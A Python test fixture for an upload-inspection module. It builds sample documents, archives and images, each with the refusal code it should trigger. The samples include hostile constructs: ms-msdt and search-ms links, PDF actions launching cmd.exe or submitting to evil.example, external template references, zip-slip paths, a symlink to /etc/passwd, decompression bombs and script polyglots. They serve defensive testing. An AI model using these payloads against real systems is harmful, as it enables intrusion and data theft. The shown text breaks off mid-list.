"""Sample files as users and attackers upload them: name, content and expected result."""

import io
import struct
import warnings
import zipfile
import zlib
from collections.abc import Callable
from dataclasses import dataclass

from openpyxl import Workbook
from openpyxl.chart import BarChart, Reference

from gongkai.files.inspection.open_documents import MEDIA_TYPES

TYPES = "[Content_Types].xml"
MAIN = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
GOOD = ""


@dataclass(frozen=True)
class Sample:
    """One file: description, name, content, and the expected refusal code (empty: accepted)."""

    what: str
    name: str
    content: bytes
    code: str


def packed(
    members: dict[str, bytes], *, change: Callable[[zipfile.ZipInfo], None] | None = None
) -> bytes:
    """Make a ZIP; `change` alters the header of each member before it is written."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as made:
        for name, content in members.items():
            info = zipfile.ZipInfo(name, (2026, 1, 1, 0, 0, 0))
            info.compress_type = zipfile.ZIP_DEFLATED
            if change:
                change(info)
            made.writestr(info, content)
    return out.getvalue()


def twice(name: str, *contents: bytes) -> bytes:
    """Make a ZIP in which one name occurs more than once."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as made, warnings.catch_warnings():
        warnings.simplefilter("ignore")
        for content in contents:
            made.writestr(name, content)
    return out.getvalue()


def docx(types: str = "", relations: str = "", **more: bytes) -> bytes:
    """Make a DOCX as word processors write it; `more` adds parts, with __ for / in their names."""
    members = {
        TYPES: f'<Types><Override PartName="/word/document.xml" ContentType="{MAIN}"/>{types}</Types>'.encode(),
        "_rels/.rels": b'<Relationships><Relationship Id="1" Type="a/officeDocument" Target="word/document.xml"/>'
        b"</Relationships>",
        "word/document.xml": "<w:document xmlns:w='w'><w:body><w:p>关于收费的通知</w:p></w:body></w:document>".encode(),
        "word/_rels/document.xml.rels": f"<Relationships>{relations}</Relationships>".encode(),
    }
    return packed(
        members
        | {name.replace("__", "/").replace("_dot_", "."): part for name, part in more.items()}
    )


def external(kind: str, target: str, mode: str = "External") -> str:
    """Return a relationship of a part to an external target."""
    return f'<Relationship Id="r9" Type="{OFFICE}{kind}" Target="{target}" TargetMode="{mode}"/>'


def xlsx() -> bytes:
    """Make a workbook with a chart, using openpyxl."""
    book = Workbook()
    sheet = book.active
    assert sheet is not None
    for row in (["名称", "金额"], ["维修", 12], ["供水", 30]):
        sheet.append(row)
    chart = BarChart()
    chart.add_data(Reference(sheet, min_col=2, min_row=1, max_row=3), titles_from_data=True)
    sheet.add_chart(chart, "D2")
    sheet["A5"].hyperlink = "https://www.example.gov.cn/"
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


def pdf(*objects: bytes, trailer: bytes = b"/Root 1 0 R") -> bytes:
    """Make a PDF with a compressed page of text, and further objects."""
    page = zlib.compress(b"BT /F1 12 Tf (see /JavaScript and /Launch) Tj ET")
    parts = [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R >>",
        b"<< /Length %d /Filter /FlateDecode >>\nstream\n%s\nendstream" % (len(page), page),
        *objects,
    ]
    out = b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n"
    places = []
    for number, part in enumerate(parts, start=1):
        places.append(len(out))
        out += b"%d 0 obj\n%s\nendobj\n" % (number, part)
    table = b"".join(b"%010d 00000 n \n" % place for place in places)
    head = b"xref\n0 %d\n0000000000 65535 f \n" % (len(parts) + 1)
    return out + head + table + b"trailer\n<< %s >>\nstartxref\n%d\n%%%%EOF\n" % (trailer, len(out))


def object_stream(
    text: bytes, words: bytes = b"/Filter /FlateDecode", content: bytes | None = None
) -> bytes:
    """Make an object stream, as newer PDF files contain it."""
    content = zlib.compress(b"9 0 " + text) if content is None else content
    return b"<< /Type /ObjStm /N 1 /First 4 /Length %d %s >>\nstream\n%s\nendstream" % (
        len(content),
        words,
        content,
    )


def png(tail: bytes = b"", comment: bytes = b"") -> bytes:
    """Make a PNG image of one grey pixel."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        return (
            struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))
        )

    text = chunk(b"tEXt", b"Comment\x00" + comment) if comment else b""
    head, body = (
        chunk(b"IHDR", struct.pack(">IIBBBBB", 1, 1, 8, 0, 0, 0, 0)),
        chunk(b"IDAT", zlib.compress(b"\x00\x7f")),
    )
    return b"\x89PNG\r\n\x1a\n" + head + text + body + chunk(b"IEND", b"") + tail


def jpeg(comment: bytes = b"") -> bytes:
    """Make a minimal JPEG file with a comment."""
    segment = b"\xff\xfe" + struct.pack(">H", len(comment) + 2) + comment
    return (
        b"\xff\xd8\xff\xe0\x00\x10JFIF\x00\x01\x01\x00\x00\x01\x00\x01\x00\x00"
        + segment
        + b"\xff\xda\x00\x02\x11\xff\xd9"
    )


def ole(*names: str, text: str = "", data: dict[str, bytes] | None = None) -> bytes:
    """Make an OLE document with these streams; `text` stands in the first, in UTF-16."""
    streams = dict.fromkeys(names, b"") | (data or {})
    if text:
        streams[names[0]] = text.encode("utf-16-le")
    # Streams of at least 4,096 bytes lie in sectors of their own; smaller ones would be packed.
    contents = [
        one.ljust(-(-max(4_096, len(one)) // 512) * 512, b"\x00") for one in streams.values()
    ]
    folders = -(-(len(streams) + 1) // 4)
    used = folders + sum(len(one) // 512 for one in contents)
    tables = 1
    while tables * 128 < used + tables:
        tables += 1
    chain = [0xFFFFFFFD] * tables
    starts = []
    for count in [folders, *(len(one) // 512 for one in contents)]:
        starts.append(len(chain))
        chain += [*range(len(chain) + 1, len(chain) + count), 0xFFFFFFFE]
    chain += [0xFFFFFFFF] * (tables * 128 - len(chain))

    def entry(name: str, kind: int, right: int, child: int, start: int, size: int) -> bytes:
        raw = name.encode("utf-16-le") + b"\x00\x00"
        head = raw.ljust(64, b"\x00") + struct.pack("<HBB", len(raw), kind, 1)
        links = struct.pack("<III", 0xFFFFFFFF, right, child)
        return head + links + bytes(36) + struct.pack("<IQ", start, size)

    directory = entry("Root Entry", 5, 0xFFFFFFFF, 1 if streams else 0xFFFFFFFF, 0xFFFFFFFE, 0)
    for number, (name, content) in enumerate(zip(streams, contents, strict=True), start=1):
        right = number + 1 if number < len(streams) else 0xFFFFFFFF
        directory += entry(name, 2, right, 0xFFFFFFFF, starts[number], len(content))
    head = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(16)
    head += struct.pack("<HHHHH", 0x3E, 3, 0xFFFE, 9, 6) + bytes(6)
    head += struct.pack("<IIIIIIIII", 0, tables, starts[0], 0, 4096, 0xFFFFFFFE, 0, 0xFFFFFFFE, 0)
    head += struct.pack("<109I", *range(tables), *([0xFFFFFFFF] * (109 - tables)))
    return b"".join(
        [
            head,
            struct.pack(f"<{len(chain)}I", *chain),
            directory.ljust(folders * 512, b"\x00"),
            *contents,
        ]
    )


def ofd(**more: bytes) -> bytes:
    """Make an official document in the national format (OFD)."""
    members = {
        "OFD.xml": b"<ofd:OFD xmlns:ofd='o'/>",
        "Doc_0/Document.xml": b"<ofd:Document xmlns:ofd='o'/>",
    }
    return packed(members | {name.replace("__", "/"): part for name, part in more.items()})


def flagged(info: zipfile.ZipInfo) -> None:
    """Make a member a symbolic link."""
    info.create_system, info.external_attr = 3, 0o120777 << 16


def patched(archive: bytes, *changes: tuple[int, bytes], sign: bytes = b"PK\x01\x02") -> bytes:
    """Overwrite bytes of the first record with this signature, by their offset in it."""
    out, at = bytearray(archive), archive.index(sign)
    for place, value in changes:
        out[at + place : at + place + len(value)] = value
    return bytes(out)


def encrypted(archive: bytes) -> bytes:
    """Mark the first member as encrypted."""
    return patched(archive, (8, b"\x01\x00"))


def with_understated_size(content: bytes) -> bytes:
    """Declare a smaller size with a matching checksum, which `zipfile` would accept."""
    archive = packed({"a.txt": content})
    said = struct.pack("<I", 10)
    archive = patched(archive, (16, struct.pack("<I", zlib.crc32(content[:10]))), (24, said))
    return patched(
        archive, (14, struct.pack("<I", zlib.crc32(content[:10]))), (22, said), sign=b"PK\x03\x04"
    )


def overlapping() -> bytes:
    """Make a ZIP in which two names share one compressed member."""
    archive = packed({"a.txt": b"x" * 500, "b.txt": b"x" * 500})
    second = archive.rindex(b"PK\x01\x02")
    return archive[: second + 42] + struct.pack("<I", 0) + archive[second + 46 :]


def with_unnamed_member() -> bytes:
    """Remove a member from the central directory but keep its bytes."""
    archive = packed({"a.txt": b"first", "evil.txt": b"hidden " * 20, "z.txt": b"last"})
    start = archive.index(b"PK\x01\x02")
    second = archive.index(b"PK\x01\x02", start + 4)
    third = archive.index(b"PK\x01\x02", second + 4)
    end = archive.index(b"PK\x05\x06")
    table = archive[start:second] + archive[third:end]
    return (
        archive[:start]
        + table
        + b"PK\x05\x06\0\0\0\0"
        + struct.pack("<HHIIH", 2, 2, len(table), start, 0)
    )


def with_tail_in_member() -> bytes:
    """Extend a compressed member by bytes after the end of its data."""
    archive = packed({"a.txt": b"x" * 100})
    table = archive.index(b"PK\x01\x02")
    size = struct.unpack_from("<I", archive, 18)[0] + 8
    archive = archive[:table] + b"tailtail" + archive[table:]
    archive = archive[:-6] + struct.pack("<I", table + 8) + archive[-2:]
    archive = patched(archive, (20, struct.pack("<I", size)))
    return patched(archive, (18, struct.pack("<I", size)), sign=b"PK\x03\x04")


def field(*pieces: str, simple: bool = False) -> bytes:
    """Make the text of a document with a field, whose code is written in these pieces."""
    if simple:
        body = f'<w:fldSimple w:instr="{"".join(pieces)}"/>'
    else:
        runs = "".join(f"<w:r><w:instrText>{piece}</w:instrText></w:r>" for piece in pieces)
        body = (
            f'<w:r><w:fldChar w:fldCharType="begin"/></w:r>{runs}'
            '<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>点击</w:t></w:r>'
            '<w:r><w:fldChar w:fldCharType="end"/></w:r>'
        )
    return f"<w:document xmlns:w='w'><w:body><w:p>{body}</w:p></w:body></w:document>".encode()


def nested_field(outer: str, inner: str) -> bytes:
    """Make the text of a document with a field inside a field."""

    def piece(kind: str) -> str:
        return f'<w:fldChar w:fldCharType="{kind}"/>'

    body = (
        piece("begin")
        + f"<w:instrText>{outer}</w:instrText>"
        + piece("begin")
        + f"<w:instrText>{inner}</w:instrText>"
        + piece("end")
        + piece("separate")
        + piece("end")
    )
    return f"<w:document xmlns:w='w'>{body}</w:document>".encode()


def with_text(text: bytes) -> bytes:
    """Make a document with this XML as its text."""
    return docx(word__document_dot_xml=text)


def sheet(formula: str) -> bytes:
    """Make a workbook with a formula."""
    cell = f"<worksheet><sheetData><row><c><f>{formula}</f></c></row></sheetData></worksheet>"
    return packed(
        {TYPES: b"<Types/>", "xl/workbook.xml": b"<w/>", "xl/worksheets/sheet1.xml": cell.encode()}
    )


def record(kind: int, content: bytes) -> bytes:
    """Make a record of an old sheet."""
    return struct.pack("<HH", kind, len(content)) + content


def moniker(address: str) -> bytes:
    """Make the record of a link in an old sheet."""
    raw = address.encode("utf-16-le") + b"\x00\x00"
    return record(
        0x1B8,
        bytes(32)
        + bytes.fromhex("e0c9ea79f9bace118c8200aa004ba90b")
        + struct.pack("<I", len(raw))
        + raw,
    )


def packed_pdf(*objects: bytes, typed: bool = True) -> bytes:
    """Make a PDF whose objects, from number 1 on, are all in one object stream."""
    places, text = [], b""
    for number, one in enumerate(objects, start=1):
        places.append(b"%d %d" % (number, len(text)))
        text += one + b" "
    head = b" ".join(places) + b" "
    content = zlib.compress(head + text)
    kind = b"/Type/ObjStm" if typed else b""
    out = b"%PDF-1.5\n"
    stream_at = len(out)
    number = len(objects) + 1
    out += b"%d 0 obj\n<<%s/N %d/First %d/Filter/FlateDecode/Length %d>>\nstream\n" % (
        number,
        kind,
        len(objects),
        len(head),
        len(content),
    )
    out += content + b"\nendstream\nendobj\n"
    table_at = len(out)
    rows = struct.pack(">BIH", 0, 0, 65535)
    rows += b"".join(struct.pack(">BIH", 2, number, index) for index in range(len(objects)))
    rows += struct.pack(">BIH", 1, stream_at, 0) + struct.pack(">BIH", 1, table_at, 0)
    table = zlib.compress(rows)
    out += (
        b"%d 0 obj\n<</Type/XRef/Size %d/W[1 4 2]/Root 1 0 R/Filter/FlateDecode/Length %d>>\nstream\n"
        % (
            number + 1,
            number + 2,
            len(table),
        )
    )
    return out + table + b"\nendstream\nendobj\nstartxref\n%d\n%%%%EOF\n" % table_at


def page_with(action: bytes, *, typed: bool = True) -> bytes:
    """Make a PDF with all objects packed, whose page opens with this action."""
    return packed_pdf(
        b"<</Type/Catalog/Pages 2 0 R/OpenAction 4 0 R>>",
        b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
        b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 200 200]/Resources<<>>>>",
        action,
        typed=typed,
    )


def archive_of_bombs(count: int) -> bytes:
    """Make a small archive of PDF files whose object streams unpack to much more."""
    bomb = pdf(object_stream(b"0" * (10 << 20)))
    return packed({f"{number}.pdf": bomb for number in range(count)})


UNSAFE_LINKS = (
    "ms-msdt:/id PCWDiagnostic",
    "search-ms:query=a",
    "ms-officecmd:{}",
    "ms-appinstaller:?source=https://evil.example/a",
    "java&#9;script:alert(1)",
    " javascript:alert(1)",
    "vbscript:a",
    "file:///C:/a.exe",
    "ftp://evil.example/a",
    "\\\\host\\share\\a.docx",
    "//host/share/a.docx",
    "%5C%5Chost/share",
)
UNSAFE_ACTIONS = (
    ("a script", b"<</S/JavaScript/JS(app.alert\\(1\\))>>", "pdf-script"),
    ("a program", b"<</S/Launch/F(cmd.exe)>>", "pdf-launch"),
    (
        "a form that is sent",
        b"<</S/SubmitForm/F<</FS/URL/F(https://evil.example/)>>>>",
        "pdf-submit",
    ),
    ("data from elsewhere", b"<</S/ImportData/F(a.fdf)>>", "pdf-submit"),
    (
        "a document on another computer",
        b"<</S/GoToR/F(\\\\\\\\host\\\\a.pdf)/D[0/Fit]>>",
        "file-external",
    ),
    (
        "a document by address",
        b"<</S/GoToR/F<</Type/Filespec/UF(file://host/a.pdf)>>/D[0/Fit]>>",
        "file-external",
    ),
    ("a link to a program", b"<</S/URI/URI(ms-msdt:/id)>>", "file-link"),
    ("a link to a script with a tab", b"<</S/URI/URI(java\\tscript:alert\\(1\\))>>", "file-link"),
    ("a link to another computer", b"<</S/URI/URI(\\\\\\\\host\\\\share)>>", "file-link"),
    (
        "a link in UTF-16",
        b"<</S/URI/URI<FEFF" + "search-ms:a".encode("utf-16-be").hex().encode() + b">>>",
        "file-link",
    ),
    ("a second action", b"<</S/URI/URI(https://a.cn)/Next<</S/Launch>>>>", "pdf-launch"),
)


PROGRAM = b"MZ\x90\x00\x03" + b"\x00" * 60
TEXT_ZIP = packed({"a.txt": b"hello"})
IN_A_SHEET = docx(word__embeddings__Sheet1_dot_xlsx=xlsx())


def open_document(ending: str, kind: str) -> bytes:
    """Make a file of OpenDocument with an empty body of a kind."""
    space = "urn:oasis:names:tc:opendocument:xmlns:office:1.0"
    body = f"<office:body><office:{kind}/></office:body>"
    content = f'<office:document-content xmlns:office="{space}">{body}</office:document-content>'
    return packed({"mimetype": MEDIA_TYPES[ending].encode(), "content.xml": content.encode()})


SAMPLES = [
    Sample("a text of OpenDocument", "a.odt", open_document("odt", "text"), GOOD),
    Sample("a table of OpenDocument", "a.ods", open_document("ods", "spreadsheet"), GOOD),
    Sample("slides of OpenDocument", "a.odp", open_document("odp", "presentation"), GOOD),
    # Ordinary files.
    Sample("a document", "通知.docx", docx(), GOOD),
    Sample(
        "a document with a link",
        "a.docx",
        docx(relations=external("hyperlink", "https://x.gov.cn/a:b")),
        GOOD,
    ),
    Sample(
        "a document with a mail address",
        "a.docx",
        docx(relations=external("hyperlink", "mailto:a@b.cn")),
        GOOD,
    ),
    Sample("a document with a chart and its sheet", "a.docx", IN_A_SHEET, GOOD),
    Sample(
        "a document with a formula",
        "a.docx",
        docx(word__embeddings__oleObject1_dot_bin=ole("Equation Native")),
        GOOD,
    ),
    Sample("a workbook with a chart", "表.xlsx", xlsx(), GOOD),
    Sample("slides", "a.pptx", packed({TYPES: b"<Types/>", "ppt/presentation.xml": b"<p/>"}), GOOD),
    Sample("a PDF", "a.pdf", pdf(), GOOD),
    Sample(
        "a PDF with object streams", "a.pdf", pdf(object_stream(b"<< /Type /Font /S /URI >>")), GOOD
    ),
    Sample(
        "a PDF with a link",
        "a.pdf",
        pdf(b"<< /S /URI /URI (https://x.cn/JavaScript/Launch) >>"),
        GOOD,
    ),
    Sample(
        "a PDF that opens at a page",
        "a.pdf",
        pdf(b"<< /OpenAction [3 0 R /Fit] /AA << >> >>"),
        GOOD,
    ),
    Sample(
        "a PDF with an outline before a picture",
        "a.pdf",
        pdf(
            b"<< /First 5 0 R >>",
            b"<< /Subtype /Image /Filter /DCTDecode >>\nstream\n\xff\xd8/JS (x)\nendstream",
        ),
        GOOD,
    ),
    Sample("a picture", "a.png", png(), GOOD),
    Sample("a photograph", "a.JPG", jpeg(b"taken in 2026"), GOOD),
    Sample(
        "an old document", "a.doc", ole("WordDocument", "1Table", "\x05SummaryInformation"), GOOD
    ),
    Sample(
        "an old document about macros",
        "a.doc",
        ole("WordDocument", text="Macros _VBA_PROJECT VBA " * 20),
        GOOD,
    ),
    Sample(
        "an old document whose macros were removed",
        "a.doc",
        ole("WordDocument", text="Macros".ljust(32, "\x00") + "\x0e"),
        GOOD,
    ),
    Sample("an old sheet", "a.xls", ole("Workbook"), GOOD),
    Sample("an official document", "公文.ofd", ofd(Doc_0__Signs__Seal=b"\x30\x82"), GOOD),
    Sample("a table", "表.csv", "名称,金额\n维修,12\n".encode(), GOOD),
    Sample("a table of old", "旧表.csv", "名称,金额\n".encode("gb18030"), GOOD),
    Sample("a text", "a.txt", "办理结果\n".encode("utf-8-sig"), GOOD),
    Sample("a text of Notepad", "a.txt", "办理结果 2026\r\n".encode("utf-16"), GOOD),
    Sample(
        "a text of Notepad, big-endian", "a.txt", b"\xfe\xff" + "办理结果".encode("utf-16-be"), GOOD
    ),
    Sample(
        "a text in UTF-16 without a mark", "a.txt", "结果 1 2 3 4\r\n".encode("utf-16-le"), GOOD
    ),
    Sample(
        "an archive of documents",
        "a.zip",
        packed({"附件/": b"", "附件/一.pdf": pdf(), "二.docx": docx()}),
        GOOD,
    ),
    Sample(
        "an archive from a Mac",
        "a.zip",
        packed({"a.txt": b"x", "__MACOSX/._a.txt": b"\x00\x05\x16\x07\x00"}),
        GOOD,
    ),
    Sample(
        "an archive from Chinese Windows",
        "a.zip",
        packed({"aa.txt": b"x"}).replace(b"aa.txt", "誠.txt".encode("gb18030")),
        GOOD,
    ),
    Sample(
        "a document with a field", "a.docx", with_text(field(' HYPERLINK "https://a.cn/b" ')), GOOD
    ),
    Sample(
        "a document with a table of contents",
        "a.docx",
        with_text(field(' TOC \\o "1-3" \\h ')),
        GOOD,
    ),
    Sample(
        "a document with a place in itself",
        "a.docx",
        with_text(field(' HYPERLINK \\l "_Toc1" \\o "说明: 一" ')),
        GOOD,
    ),
    Sample(
        "a document with a picture pasted from the web",
        "a.docx",
        with_text(field(' INCLUDEPICTURE "C:\\\\Temp\\\\wps1.png" ')),
        GOOD,
    ),
    Sample(
        "a document with a relative link",
        "a.docx",
        docx(relations=external("hyperlink", "附件：一.docx")),
        GOOD,
    ),
    Sample(
        "a workbook with formulas", "a.xlsx", sheet("IF(A1=&quot;a|b&quot;,SUM(B1:B9),0)"), GOOD
    ),
    Sample(
        "a workbook with a link in a formula",
        "a.xlsx",
        sheet("HYPERLINK(&quot;https://a.cn&quot;,&quot;a&quot;)"),
        GOOD,
    ),
    Sample(
        "a PDF of another volume", "a.pdf", page_with(b"<</S/GoToR/F(vol2.pdf)/D[0/Fit]>>"), GOOD
    ),
    Sample(
        "a PDF whose objects are all packed",
        "a.pdf",
        page_with(b"<</S/URI/URI(https://a.cn)>>"),
        GOOD,
    ),
    Sample(
        "an old document with a link",
        "a.doc",
        ole("WordDocument", text='正文\x13 HYPERLINK "https://a.cn" \x14a\x15'),
        GOOD,
    ),
    Sample(
        "an old sheet with a link",
        "a.xls",
        ole(data={"Workbook": record(0x85, bytes(8)) + moniker("https://a.cn/")}),
        GOOD,
    ),
    Sample("a table with bars", "a.csv", "甲|乙,-1|-2\n".encode(), GOOD),
    Sample(
        "an official document with a link",
        "a.ofd",
        ofd(Doc_0__A_dot_xml=b"<o:A xmlns:o='o'><o:URI URI='https://a.cn'/></o:A>"),
        GOOD,
    ),
    # Names and types.
    Sample("a program", "a.exe", PROGRAM, "file-type"),
    Sample("a program whose name reads backwards", "a\u202efdp.exe", PROGRAM, "file-type"),
    Sample("a program with an unseen sign in its ending", "a.pdf\u200b.exe", PROGRAM, "file-type"),
    Sample("a page", "a.html", b"<html>", "file-type"),
    Sample("a drawing with scripts", "a.svg", b"<svg/>", "file-type"),
    Sample("a document with macros, said openly", "a.docm", docx(), "file-type"),
    Sample("nothing", "a.pdf", b"", "file-empty"),
    Sample("a program called PDF", "a.pdf", PROGRAM, "file-content"),
    Sample("a page called text", "a.txt", b"<html><body>x", "file-content"),
    Sample("bytes that are no text", "a.txt", b"\xff\xff\xff", "file-content"),
    Sample("bytes that are no text, with a mark", "a.txt", b"\xff\xfe" + bytes(64), "file-content"),
    Sample("half a character in UTF-16", "a.txt", b"\xff\xfeA\0\0\xd8", "file-content"),
    Sample(
        "a page in UTF-16 called text", "a.txt", "<html><script>".encode("utf-16"), "file-content"
    ),
    Sample("a table in UTF-16", "a.csv", "甲,1 2 3\r\n".encode("utf-16"), "file-content"),
    Sample("a picture without end", "a.png", png()[:-12], "file-polyglot"),
    Sample("a program called table", "a.csv", PROGRAM, "file-content"),
    Sample("a sheet called document", "a.docx", xlsx(), "file-content"),
    Sample("a document called official", "a.ofd", docx(), "file-content"),
    Sample("an old sheet called document", "a.doc", ole("Workbook"), "file-content"),
    # Files of two types at once.
    Sample(
        "a page in the head of a PDF",
        "a.pdf",
        b"%PDF-1.7\n<html><script>alert(1)</script>" + pdf(),
        "file-polyglot",
    ),
    Sample("an archive behind a PDF", "a.pdf", pdf() + TEXT_ZIP, "file-polyglot"),
    Sample("an archive behind a picture", "a.png", png(tail=TEXT_ZIP), "file-polyglot"),
    Sample("bytes behind a picture", "a.png", png(tail=b"anything"), "file-polyglot"),
    Sample("an archive behind a photograph", "a.jpg", jpeg() + TEXT_ZIP, "file-polyglot"),
    Sample(
        "a RAR behind a photograph",
        "a.jpg",
        jpeg() + b"Rar!\x1a\x07\x01\x00" + b"0" * 70_000,
        "file-polyglot",
    ),
    Sample("a page in a photograph", "a.jpg", jpeg(b"<script>alert(1)</script>"), "file-polyglot"),
    Sample("a page in a picture", "a.png", png(comment=b"<svg onload=alert(1)>"), "file-polyglot"),
    Sample("a PDF in a picture", "a.png", png(comment=pdf()), "file-polyglot"),
    Sample(
        "a PDF in the head of a document",
        "a.docx",
        packed({"%PDF-1.7": b"x", "word/document.xml": b"x"}),
        "file-polyglot",
    ),
    Sample(
        "an archive behind an archive's own head",
        "a.zip",
        b"PK\x03\x04 and more" + TEXT_ZIP,
        "file-polyglot",
    ),
    Sample("bytes behind an archive", "a.zip", TEXT_ZIP + b"<html>", "file-polyglot"),
    Sample(
        "a page in the comment of an archive",
        "a.zip",
        TEXT_ZIP[:-2] + struct.pack("<H", 2000) + b"<html>".ljust(2000),
        "file-polyglot",
    ),
    # Archives.
    Sample("a broken archive", "a.zip", b"PK\x03\x04broken", "archive-damaged"),
    Sample("a wrong checksum", "a.zip", patched(TEXT_ZIP, (16, b"0000")), "archive-damaged"),
    Sample(
        "another name in the member's own head",
        "a.zip",
        TEXT_ZIP.replace(b"a.txt", b"b.exe", 1),
        "archive-damaged",
    ),
    Sample(
        "packed bytes that do not unpack",
        "a.zip",
        patched(TEXT_ZIP, (35, b"\xff"), sign=b"PK\x03\x04"),
        "archive-damaged",
    ),
    Sample("a path upward", "a.zip", packed({"../../a.txt": b"x"}), "archive-path"),
    Sample(
        "a path upward, as Windows writes it",
        "a.zip",
        packed({"a\\..\\..\\b.txt": b"x"}),
        "archive-path",
    ),
    Sample("a path from the root", "a.zip", packed({"/etc/a.txt": b"x"}), "archive-path"),
    Sample("a drive", "a.zip", packed({"C:\\a.txt": b"x"}), "archive-path"),
    Sample("a member with a bidi sign", "a.zip", packed({"a\u202etxt.pdf": b"x"}), "archive-path"),
    Sample(
        "a symbolic link",
        "a.zip",
        packed({"a.txt": b"/etc/passwd"}, change=flagged),
        "archive-link",
    ),
    Sample("an encrypted member", "a.zip", encrypted(TEXT_ZIP), "file-encrypted"),
    Sample("a name twice", "a.zip", twice("a.txt", b"one", b"two"), "archive-duplicate"),
    Sample(
        "a name twice but for its case",
        "a.zip",
        packed({"a.txt": b"1", "A.TXT": b"2"}),
        "archive-duplicate",
    ),
    Sample(
        "a document with two texts",
        "a.docx",
        packed({"word/document.xml": b"1", "Word/Document.xml": b"2"}),
        "archive-duplicate",
    ),
    Sample("an archive in an archive", "a.zip", packed({"b.zip": TEXT_ZIP}), "archive-nested"),
    Sample(
        "a RAR in an archive", "a.zip", packed({"b.rar": b"Rar!\x1a\x07\x01\x00"}), "archive-nested"
    ),
    Sample(
        "an archive in a document",
        "a.docx",
        docx(word__media__a_dot_png=TEXT_ZIP),
        "archive-nested",
    ),
    Sample(
        "an archive as an embedded sheet",
        "a.docx",
        docx(word__embeddings__a_dot_xlsx=TEXT_ZIP),
        "file-content",
    ),
    Sample(
        "an archive in an official document", "a.ofd", ofd(Attachs__a=TEXT_ZIP), "archive-nested"
    ),
    Sample("a program in an archive", "a.zip", packed({"a.exe": PROGRAM}), "archive-type"),
    Sample(
        "a program called text in an archive", "a.zip", packed({"a.txt": PROGRAM}), "file-content"
    ),
    Sample(
        "macros in an archive",
        "a.zip",
        packed({"a.docx": docx(word__vbaProject_dot_bin=b"x")}),
        "file-macro",
    ),
    Sample(
        "bytes behind the end of what is packed", "a.zip", with_tail_in_member(), "archive-hidden"
    ),
    Sample("many zeros", "a.zip", packed({"a.txt": b"0" * (3 << 20)}), GOOD),
    Sample("zeros without end", "a.zip", packed({"a.txt": b"0" * (20 << 20)}), "archive-bomb"),
    Sample(
        "more than it says", "a.zip", with_understated_size(b"0123456789" * 400), "archive-bomb"
    ),
    Sample("members that share their bytes", "a.zip", overlapping(), "archive-bomb"),
    Sample("a member that is not named", "a.zip", with_unnamed_member(), "archive-hidden"),
    Sample(
        "another way of packing", "a.zip", patched(TEXT_ZIP, (10, b"\x0c\x00")), "archive-method"
    ),
    Sample(
        "more members than anybody reads",
        "a.zip",
        packed({f"{n}.txt": b"" for n in range(5001)}),
        "archive-bomb",
    ),
    # Documents with active content.
    Sample("macros by name", "a.docx", docx(word__vbaProject_dot_bin=b"x"), "file-macro"),
    Sample(
        "macros by type",
        "a.docx",
        docx(
            '<Override PartName="/word/a.bin" ContentType="application/vnd.ms-office.vbaProject"/>'
        ),
        "file-macro",
    ),
    Sample(
        "macros by the main type",
        "a.docx",
        docx(
            '<Default Extension="xml" ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/>'
        ),
        "file-macro",
    ),
    Sample(
        "macros by type, in UTF-16",
        "a.docx",
        packed(
            {
                TYPES: '<?xml version="1.0" encoding="UTF-16"?><T ContentType="a.vbaProject"/>'.encode(
                    "utf-16"
                ),
                "word/document.xml": b"x",
            }
        ),
        "file-macro",
    ),
    Sample(
        "macros by relation",
        "a.docx",
        docx(relations=external("vbaProject", "a.bin", "Internal")),
        "file-macro",
    ),
    Sample("controls", "a.docx", docx(word__activeX__activeX1_dot_bin=b"x"), "file-macro"),
    Sample(
        "sheets of macros",
        "a.xlsx",
        packed({"xl/workbook.xml": b"x", "xl/macrosheets/sheet1.xml": b"x"}),
        "file-macro",
    ),
    Sample(
        "macros in an embedded object",
        "a.docx",
        docx(word__embeddings__o_dot_bin=ole("_VBA_PROJECT")),
        "file-macro",
    ),
    Sample(
        "a file in an embedded object",
        "a.docx",
        docx(word__embeddings__o_dot_bin=ole("\x01Ole10Native")),
        "file-embedded",
    ),
    *(
        Sample(
            f"{kind} from elsewhere",
            "a.docx",
            docx(relations=external(kind, "https://evil.example/a")),
            "file-external",
        )
        for kind in (
            "attachedTemplate",
            "oleObject",
            "frame",
            "externalLink",
            "externalLinkPath",
            "image",
            "subDocument",
        )
    ),
    Sample(
        "a template, mode in capitals",
        "a.docx",
        docx(relations=external("attachedTemplate", "\\\\evil\\a.dotm", "EXTERNAL")),
        "file-external",
    ),
    Sample(
        "a link that is a script",
        "a.docx",
        docx(relations=external("hyperlink", "javascript:alert(1)")),
        "file-link",
    ),
    Sample(
        "relations with a document type",
        "a.docx",
        docx(word___rels__a_dot_rels=b"<!DOCTYPE a [<!ENTITY b 'c'>]><a/>"),
        "file-unreadable",
    ),
    Sample(
        "relations that are no XML",
        "a.docx",
        docx(word___rels__a_dot_rels=b"<a"),
        "archive-damaged",
    ),
    Sample(
        "relations without end",
        "a.docx",
        docx(word___rels__a_dot_rels=b"<a>" + b" " * (9 << 20)),
        "archive-bomb",
    ),
    Sample(
        "an old document with macros", "a.doc", ole("WordDocument", "Macros", "VBA"), "file-macro"
    ),
    Sample("an old sheet with macros", "a.xls", ole("Workbook", "_VBA_PROJECT_CUR"), "file-macro"),
    Sample(
        "an old document with a file inside",
        "a.doc",
        ole("WordDocument", "\x01Ole10Native"),
        "file-embedded",
    ),
    Sample(
        "a encrypted document", "a.doc", ole("EncryptedPackage", "EncryptionInfo"), "file-encrypted"
    ),
    # Links, fields and formulas.
    *(
        Sample(
            f"a link to {link}", "a.docx", docx(relations=external("hyperlink", link)), "file-link"
        )
        for link in UNSAFE_LINKS
    ),
    *(
        Sample(
